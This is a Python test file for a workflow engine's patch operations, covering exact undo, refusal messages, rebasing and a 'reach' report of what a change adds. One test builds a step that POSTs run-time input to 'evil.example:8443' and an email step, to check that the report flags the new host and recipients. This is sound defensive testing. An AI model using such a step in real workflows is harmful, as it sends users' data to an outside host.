"""Patches: exact inverses, nothing else touched, refusals with reasons."""

import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from engine.core.document import Document, document_hash
from engine.core.patch import (
    apply_patch,
    describe_operation,
    reach_diff,
    rebase,
    touches,
)
from engine.errors import PatchRefused, StaleRevision
from tests.engine.core.catalog import SmallCatalog
from tests.engine.core.documents import deals, documents, ids, long_document, values

Json = dict[str, Any]
SLOW = settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def parsed(document: Json | None = None) -> Document:
    return Document.parse(document or deals())


def text_of(document: Document) -> str:
    return json.dumps(document.to_json())


def refused(operation: Json, document: Json | None = None) -> PatchRefused:
    with pytest.raises(PatchRefused) as caught:
        apply_patch(parsed(document), {}, [operation])
    assert caught.value.operation == 0
    return caught.value


def step(step_id: str = "new", **more: Any) -> Json:
    return {"id": step_id, "uses": "text.render", "with": {"template": "x"}, **more}


EVERY: list[Json] = [
    {"op": "set_meta", "name": "Other", "description": "Words"},
    {"op": "set_meta", "description": None},
    {"op": "add_step", "step": step()},
    {"op": "add_step", "step": step(), "index": 0},
    {"op": "update_step", "id": "big", "set": {"/with/where": "{{ item.amount > 500.0 }}"}},
    {"op": "update_step", "id": "deals", "set": {"/with/query/page": 1, "/timeout_s": 5}},
    {"op": "update_step", "id": "deals", "unset": ["/with/query"]},
    {"op": "update_step", "id": "post", "unset": ["/retry", "/foreach/key"]},
    {"op": "update_step", "id": "any_big", "set": {"/cases/-": {"id": "more", "when": True}}},
    {"op": "update_step", "id": "any_big", "set": {"/cases/0/when": False}},
    {"op": "remove_step", "id": "big"},
    {"op": "remove_step", "id": "deals"},
    {"op": "set_name", "id": "post", "name": "Tell sales"},
    {"op": "set_name", "id": "post", "name": None},
    {"op": "move", "id": "tell_ops", "index": 0},
    {"op": "connect", "from": "deals", "to": "post"},
    {"op": "connect", "from": "any_big.some", "to": "tell_ops"},
    {"op": "disconnect", "from": "any_big.some", "to": "post"},
    {"op": "set_trigger", "trigger": {"id": "weekdays", "type": "manual"}},
    {"op": "set_trigger", "trigger": {"id": "other", "type": "manual"}},
    {"op": "remove_trigger", "id": "weekdays"},
    {"op": "set_inputs", "inputs": {"type": "object"}},
    {"op": "set_inputs", "inputs": {}},
    {"op": "set_outputs", "outputs": {"n": 1}},
    {"op": "set_settings", "settings": {"timeout_s": 5}},
    {"op": "set_layout", "layout": {"deals": {"x": 1, "y": 2}}},
]
GROUPED = deals()
GROUPED["steps"].append({"id": "g", "type": "group", "steps": [step("inner")]})


@pytest.mark.parametrize("operation", EVERY, ids=lambda o: o["op"])
def test_every_operation_has_an_exact_inverse(operation: Json) -> None:
    before, layout = parsed(), {"post": {"x": 5, "y": 5}}
    done = apply_patch(before, layout, [operation])
    back = apply_patch(done.document, done.layout, done.inverse)
    assert text_of(back.document) == text_of(before)
    assert document_hash(back.document) == document_hash(before)
    assert back.layout == layout
    assert touches([operation]) <= done.touched


@SLOW
@given(st.lists(st.sampled_from(EVERY), max_size=8), st.randoms(use_true_random=False))
def test_any_patch_that_applies_can_be_undone(operations: list[Json], random: Any) -> None:
    before = parsed(random.choice([deals(), GROUPED, {"nexa": 1, "name": "x", "triggers": []}]))
    try:
        done = apply_patch(before, {}, operations)
    except PatchRefused:
        return
    back = apply_patch(done.document, done.layout, done.inverse)
    assert text_of(back.document) == text_of(before)
    again = apply_patch(back.document, back.layout, operations)
    assert text_of(again.document) == text_of(done.document)


@SLOW
@given(documents, ids, values)
def test_updates_of_any_document_can_be_undone(document: Json, name: str, value: Any) -> None:
    before = parsed(document)
    actions = [s.id for s in before.steps if s.type == "action"]
    for step_id in actions:
        operation = {"op": "update_step", "id": step_id, "set": {f"/with/{name}": value}}
        done = apply_patch(before, {}, [operation])
        back = apply_patch(done.document, {}, done.inverse)
        assert text_of(back.document) == text_of(before)


def test_removing_everything_and_undoing_it_gives_the_same_bytes() -> None:
    before = parsed()
    gone: list[Json] = [{"op": "remove_step", "id": s.id} for s in before.steps]
    gone += [{"op": "remove_trigger", "id": t.id} for t in before.triggers]
    done = apply_patch(before, {}, gone)
    assert "steps" not in done.document.to_json()
    assert text_of(apply_patch(done.document, {}, done.inverse).document) == text_of(before)


@pytest.mark.parametrize("operation", EVERY, ids=lambda o: o["op"])
def test_steps_that_are_not_named_stay_byte_identical_among_thirty(operation: Json) -> None:
    before = parsed(long_document())
    named = json.loads(json.dumps(operation))
    for key in ("id", "to", "from"):
        if named.get(key) in {s["id"] for s in deals()["steps"]}:
            named[key] += "3"
    if named.get("from") == "any_big.some":
        named["from"] = "any_big3.some"
    after = apply_patch(before, {}, [named])
    old = {s["id"]: json.dumps(s) for s in before.to_json()["steps"]}
    new = {s["id"]: json.dumps(s) for s in after.document.to_json()["steps"]}
    changed = {step_id for step_id in old if new.get(step_id) != old[step_id]}
    assert changed <= after.touched
    assert len(changed) <= 1


def test_a_step_moves_into_a_group_and_out_again() -> None:
    before = parsed(GROUPED)
    into = apply_patch(before, {}, [{"op": "move", "id": "big", "group": "g", "index": 0}])
    group = into.document.to_json()["steps"][-1]
    assert [s["id"] for s in group["steps"]] == ["big", "inner"]
    assert text_of(apply_patch(into.document, {}, into.inverse).document) == text_of(before)
    assert "itself" in refused({"op": "move", "id": "g", "group": "g"}, GROUPED).message


def test_removing_a_group_touches_what_is_inside() -> None:
    done = apply_patch(parsed(GROUPED), {}, [{"op": "remove_step", "id": "g"}])
    assert done.touched == {"g", "inner"}
    inside = apply_patch(parsed(GROUPED), {}, [{"op": "remove_step", "id": "inner"}])
    assert inside.document.to_json()["steps"][-1]["steps"] == []


@pytest.mark.parametrize(
    ("operation", "reason"),
    [
        ({"op": "explode"}, "no operation 'explode'"),
        ({"op": "add_step"}, "needs a step"),
        ({"op": "add_step", "step": step("big")}, "'big' already"),
        ({"op": "add_step", "step": step(), "index": 99}, "between 0 and"),
        ({"op": "add_step", "step": step(), "group": "big"}, "is not a group"),
        ({"op": "add_step", "step": step("if")}, "reserved word"),
        ({"op": "add_step", "step": {"id": "x", "uses": "nodots"}}, "uses"),
        ({"op": "update_step", "id": "nope"}, "no step 'nope'"),
        ({"op": "update_step", "id": "big", "set": {"/id": "x"}}, "never changes"),
        ({"op": "update_step", "id": "big", "set": {"with": 1}}, "not a pointer"),
        ({"op": "update_step", "id": "big", "set": {"/wiht/x": 1}}, "no 'wiht'"),
        ({"op": "update_step", "id": "big", "set": {"/with/__proto__": 1}}, "reserved"),
        ({"op": "update_step", "id": "big", "unset": ["/with/nope"]}, "nothing at"),
        ({"op": "update_step", "id": "big", "set": {"/a" * 100: 1}}, "at most"),
        ({"op": "update_step", "id": "big", "sett": {}}, "no 'sett'"),
        ({"op": "remove_step", "id": 3}, "names it by id"),
        ({"op": "connect", "from": "nope", "to": "big"}, "no step 'nope'"),
        ({"op": "connect", "from": "big", "to": "big"}, "wait for itself"),
        ({"op": "disconnect", "from": "deals", "to": "big"}, "{{ steps.deals.body.items }}"),
        ({"op": "disconnect", "from": "post", "to": "big"}, "does not wait"),
        ({"op": "remove_trigger", "id": "nope"}, "no trigger 'nope'"),
        ({"op": "set_trigger", "trigger": {"id": "x", "type": "magic"}}, "must be one of"),
        ({"op": "set_meta", "name": None}, "'name' is missing"),
        ({"op": "set_outputs"}, "needs 'outputs'"),
    ],
)
def test_refusals_say_why(operation: Json, reason: str) -> None:
    assert reason in refused(operation).message


def test_a_refused_patch_names_the_operation_and_changes_nothing() -> None:
    before = parsed()
    kept = text_of(before)
    patch: list[Json] = [
        {"op": "remove_step", "id": "big"},
        {"op": "update_step", "id": "post", "set": {"/x": 1}},
    ]
    with pytest.raises(PatchRefused) as caught:
        apply_patch(before, {}, patch)
    assert caught.value.operation == 1
    assert text_of(before) == kept


def test_removing_a_step_leaves_its_references_as_they_are() -> None:
    done = apply_patch(parsed(), {}, [{"op": "remove_step", "id": "deals"}])
    assert "steps.deals.body.items" in text_of(done.document)


def test_a_stale_patch_is_rebased_unless_both_touch_one_place() -> None:
    mine = [{"op": "set_name", "id": "post", "name": "x"}]
    assert rebase(mine, [{"op": "remove_step", "id": "big"}]) == mine
    assert rebase([EVERY[-1]], [EVERY[-1]]) == [EVERY[-1]]
    with pytest.raises(StaleRevision) as caught:
        rebase(mine, [{"op": "update_step", "id": "post", "unset": ["/retry"]}])
    assert caught.value.facts["touched"] == ["post"]
    with pytest.raises(StaleRevision):
        rebase([{"op": "set_meta", "name": "a"}], [{"op": "set_meta", "name": "b"}])


def test_the_reach_of_a_change_names_what_is_new() -> None:
    before = parsed()
    spam = step("spam", uses="email.send", connection="other")
    spam["with"] = {"to": ["a@x.example", "{{ inputs.x }}"], "subject": "s", "text": "t"}
    call = step("call", uses="http.request")
    call["with"] = {"method": "POST", "url": "https://evil.example:8443/{{ inputs.x }}"}
    patch = [{"op": "add_step", "step": spam}, {"op": "add_step", "step": call}]
    after = apply_patch(before, {}, patch).document
    assert reach_diff(before, after, SmallCatalog()) == {
        "hosts": ["evil.example:8443"],
        "connections": ["other"],
        "scopes": ["other: email.send"],
        "recipients": ["a@x.example", "decided at run time: {{ inputs.x }}"],
        "places": [],
        "effects": [],
        "writes": ["call: http.request (write)", "spam: email.send (write)"],
    }
    nothing = reach_diff(after, before, SmallCatalog())
    assert not any(nothing.values())


@pytest.mark.parametrize("operation", EVERY, ids=lambda o: o["op"])
def test_every_operation_can_be_told_in_words(operation: Json) -> None:
    before = parsed()
    after = apply_patch(before, {}, [operation]).document
    words = describe_operation(operation, before, after)
    assert words[0].isupper()
    assert "_step" not in words


_STRANGE = st.sampled_from(
    [
        *(None, 1, True, 1.5, "", "a", "deals", "post", "any_big.some", [], {}, [1], 10**30),
        *("/with/url", "/after", "/after/-", "/~2", "/", "/id", "/steps", "with", "/after/²"),
        {"id": "n", "type": "group", "steps": [1, {"id": "h", "type": "group", "steps": []}]},
        *({"id": "n", "type": "group"}, {"id": "n", "steps": "ab"}, {"id": "n", "steps": 5}, "h"),
        *(
            {"/after/²": 1},
            {"/after": 5},
            {"/~2": 1},
            {"/with/" + "9" * 5000: 1},
            ["/after/²"],
            "n",
        ),
    ]
)
_NAMES = ("id", "step", "index", "group", "set", "unset", "name", "from", "to", "trigger", "layout")
_STRANGE_OPERATION = st.fixed_dictionaries(
    {
        "op": st.sampled_from(
            ["add_step", "update_step", "remove_step", "move", "connect", "disconnect", "set_name"]
        )
    },
    optional=dict.fromkeys(_NAMES, _STRANGE),
)


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_STRANGE_OPERATION, min_size=1, max_size=3))
def test_operations_of_strangers_are_applied_or_refused_and_never_break_anything(
    operations: list[Json],
) -> None:
    before = parsed()
    assert isinstance(touches(operations), set)
    try:
        result = apply_patch(before, {}, operations)
    except PatchRefused:
        return
    assert text_of(apply_patch(result.document, result.layout, result.inverse).document) == text_of(
        before
    )


@pytest.mark.parametrize(
    "operation",
    [
        {"op": "move", "id": "post", "group": []},
        {"op": "add_step", "step": {"id": "n", "type": "group", "steps": [1]}},
        {"op": "add_step", "step": {"id": "n", "type": "group", "steps": 5}},
        {"op": "update_step", "id": "post", "set": {"/after/²": "deals"}},
        {"op": "update_step", "id": "post", "unset": ["/after/" + "9" * 5000]},
    ],
)
def test_values_of_the_wrong_kind_are_refused_with_a_reason(operation: Json) -> None:
    assert refused(operation).message
